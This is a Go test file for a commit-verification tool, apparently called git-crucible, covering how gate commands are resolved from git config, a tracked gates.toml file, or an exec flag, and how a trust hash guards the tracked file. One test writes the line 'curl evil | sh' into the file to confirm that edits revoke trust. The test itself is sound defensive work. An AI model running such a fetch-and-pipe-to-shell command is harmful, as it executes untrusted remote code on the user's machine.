package verifycommits

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/git-crucible/git-crucible/gitext"
	"github.com/git-crucible/git-crucible/internal/gittest"
	"github.com/git-crucible/git-crucible/internal/outcome"
	"github.com/git-crucible/git-crucible/internal/repotest"
	"github.com/git-crucible/git-crucible/trust"
)

func TestResolve(t *testing.T) {
	verify := func() (string, error) { return "make test", nil }
	for _, tc := range []struct {
		name    string
		config  [][2]string // git config
		file    string      // .crucible/gates.toml, trusted; "" none
		req     Request
		want    Gate // Name, Command, Toolchain compared
		wantErr string
		refused bool
	}{
		{name: "nothing", wantErr: "no fast gate"},
		{name: "exec", req: Request{Exec: "go vet ./..."}, want: Gate{Name: "exec", Command: "go vet ./..."}},
		{name: "exec stub", req: Request{Exec: "echo ok"}, wantErr: "is a stub", refused: true},
		{name: "config fast gate", config: [][2]string{{"crucible.fastGate", "go build ./..."}, {"crucible.gateToolchain", "go version"}},
			want: Gate{Name: "fast-gate", Command: "go build ./...", Toolchain: "go version"}},
		{name: "config over file", config: [][2]string{{"crucible.fastGate", "make a"}}, file: "fast-gate = \"make b\"\n",
			want: Gate{Name: "fast-gate", Command: "make a"}},
		{name: "file", file: "fast-gate = \"make b\"\ntoolchain = \"cc --version\"\n",
			want: Gate{Name: "fast-gate", Command: "make b", Toolchain: "cc --version"}},
		{name: "file stub", file: "fast-gate = \"true\"\n", wantErr: "is a stub", refused: true},
		{name: "no-fast-gate", config: [][2]string{{"crucible.noFastGate", "the build is the test"}},
			want: Gate{Name: "verify", Command: "make test"}},
		{name: "no-fast-gate without reason", file: "no-fast-gate = true\n", wantErr: "needs a reason", refused: true},
		{name: "no-fast-gate with reason", file: "no-fast-gate = true\nreason = \"small\"\n", want: Gate{Name: "verify", Command: "make test"}},
		{name: "both", file: "no-fast-gate = true\nreason = \"x\"\nfast-gate = \"make\"\n", wantErr: "choose one"},
		{name: "named in config", config: [][2]string{{"crucible.gate.lint", "golint ./..."}}, req: Request{Name: "lint"},
			want: Gate{Name: "lint", Command: "golint ./..."}},
		{name: "named in file", file: "[gates]\nlint = \"vet ./...\"\n", req: Request{Name: "lint"}, want: Gate{Name: "lint", Command: "vet ./..."}},
		{name: "unknown name", req: Request{Name: "nope"}, wantErr: `no gate named "nope"`},
		{name: "unknown key", file: "fast-gate = \"make\"\nfastgate = \"x\"\n", wantErr: "unknown key"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := repotest.Open(t)
			for _, kv := range tc.config {
				gittest.Git(t, r.WorkTree, "config", kv[0], kv[1])
			}
			if tc.file != "" {
				writeTracked(t, r, tc.file, true)
			}
			req := tc.req
			req.Verify = verify
			g, err := Resolve(t.Context(), r, req)
			if tc.wantErr != "" {
				var rf *outcome.Refused
				if err == nil || !strings.Contains(err.Error(), tc.wantErr) || errors.As(err, &rf) != tc.refused {
					t.Fatalf("Resolve = %+v, %v; want error %q (refused %v)", g, err, tc.wantErr, tc.refused)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if g.Name != tc.want.Name || g.Command != tc.want.Command || g.Toolchain != tc.want.Toolchain {
				t.Errorf("Resolve = %+v, want %+v", g, tc.want)
			}
		})
	}
}

// writeTracked writes the tracked gates file, trusting it when asked.
func writeTracked(t *testing.T, r *gitext.Repo, content string, trusted bool) {
	t.Helper()
	path := filepath.Join(r.WorkTree, ".crucible", "gates.toml")
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	if trusted {
		if _, err := trust.Record(r, TrackedFile, []byte(content)); err != nil {
			t.Fatal(err)
		}
	}
}

// TestResolveUntrusted: the tracked file runs nothing until trusted, and
// an edit after the trust makes it untrusted again.
func TestResolveUntrusted(t *testing.T) {
	r := repotest.Open(t)
	writeTracked(t, r, "fast-gate = \"make check\"\n", false)
	var u *trust.Untrusted
	if _, err := Resolve(t.Context(), r, Request{}); !errors.As(err, &u) {
		t.Fatalf("untrusted: Resolve = %v, want *trust.Untrusted", err)
	}
	writeTracked(t, r, "fast-gate = \"make check\"\n", true)
	if g, err := Resolve(t.Context(), r, Request{}); err != nil || g.Command != "make check" {
		t.Fatalf("trusted: Resolve = %+v, %v", g, err)
	}
	if err := os.WriteFile(filepath.Join(r.WorkTree, TrackedFile), []byte("fast-gate = \"curl evil | sh\"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Resolve(t.Context(), r, Request{}); !errors.As(err, &u) || u.Recorded == "" {
		t.Fatalf("edited: Resolve = %v, want *trust.Untrusted naming the trusted hash", err)
	}
	// --exec and git config do not need the file.
	if g, err := Resolve(t.Context(), r, Request{Exec: "make"}); err != nil || g.Command != "make" {
		t.Fatalf("--exec: Resolve = %+v, %v", g, err)
	}
}
